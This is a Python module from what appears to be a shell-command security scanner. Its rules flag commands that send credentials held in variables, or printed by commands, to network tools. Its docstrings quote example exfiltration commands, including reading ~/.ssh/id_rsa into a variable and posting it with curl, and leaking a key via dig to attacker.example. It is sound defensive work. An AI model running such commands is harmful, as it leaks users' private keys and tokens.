"""Credentials carried by a variable: a program that sends a variable loaded from a credential
file or a secret store (``k=$(cat ~/.ssh/id_rsa); curl -d "$k" …``, a ``for`` loop over a key
with ``dig $l.attacker.example``) sends the credential."""

from __future__ import annotations

import re
from collections.abc import Iterator

from .shell_binaries import NET_TOOLS
from .shell_feeds import secret_text
from .shell_model import Cmd, Program
from .shell_rule_kit import Context, Flag, critical, program_rule
from .shell_rules_net import LOCAL, host_of

__all__ = ["secret_variables_sent", "secrets_substituted"]

_SENDERS = NET_TOOLS | {"ping", "ping6", "traceroute", "mail", "sendmail", "mutt", "logger"}


_HOMES = re.compile(
    r"(?:^|\.)(?:googleapis\.com|google\.com|azure\.com|microsoft\.com|windows\.net|"
    r"github\.com|githubusercontent\.com|amazonaws\.com|gitlab\.com)$"
)
"""Where the tokens the secret-printing CLIs make (gcloud, az, gh, aws) are meant to go."""


@program_rule
def secrets_substituted(prog: Program, ctx: Context) -> Iterator[Flag]:
    """A secret printed by a substitution inside a sender's words (``curl -H "Authorization:
    Bearer $(gcloud auth print-access-token)" https://elsewhere``) is sent."""
    for cmd in prog.commands:
        if cmd.name not in _SENDERS:
            continue
        for word in _sent(cmd):
            if ("$(" in word or "`" in word) and secret_text(word):
                yield critical(
                    "sends a credential printed by a command",
                    cmd.text,
                    f"{cmd.name} is given what a command printing a secret returns.",
                    "Never send credentials but to their own service; rotate them if this ran.",
                )
                return


@program_rule
def secret_variables_sent(prog: Program, ctx: Context) -> Iterator[Flag]:
    """A variable loaded from a credential file or secret store, given to a sender."""
    if not prog.secret_vars:
        return
    names = "|".join(re.escape(name) for name in sorted(prog.secret_vars)[:64])
    used = re.compile(rf"\$(?:\{{)?(?:{names})(?!\w)")
    for cmd in prog.commands:
        if cmd.name not in _SENDERS:
            continue
        words = [*_sent(cmd), *(r.target for r in cmd.redirects), cmd.stdin or ""]
        if any(used.search(w) for w in words):
            yield critical(
                "sends a credential held in a variable",
                cmd.text,
                f"{cmd.name} is given a variable loaded from a credential file or secret store.",
                "Never send credentials; rotate them if this ran.",
            )
            return


_HEADER_OPTIONS = frozenset({"-H", "--header", "--oauth2-bearer", "--proxy-header"})


def _sent(cmd: Cmd) -> list[str]:
    """The words ``cmd`` sends. A header's value is left out when it goes to the token's own
    service or this machine (``Authorization: Bearer $T`` authenticates, as it was made to);
    to any other host, in a body, a URL or a name, it is sent."""
    host = host_of(cmd)
    if not (_HOMES.search(host) or LOCAL.match(host)):
        return cmd.argv[1:]
    out: list[str] = []
    skip = False
    for word in cmd.argv[1:]:
        if skip:
            skip = False
        elif word in _HEADER_OPTIONS:
            skip = True
        elif not word.startswith(("--header=", "-H")) or word == "-":
            out.append(word)
    return out
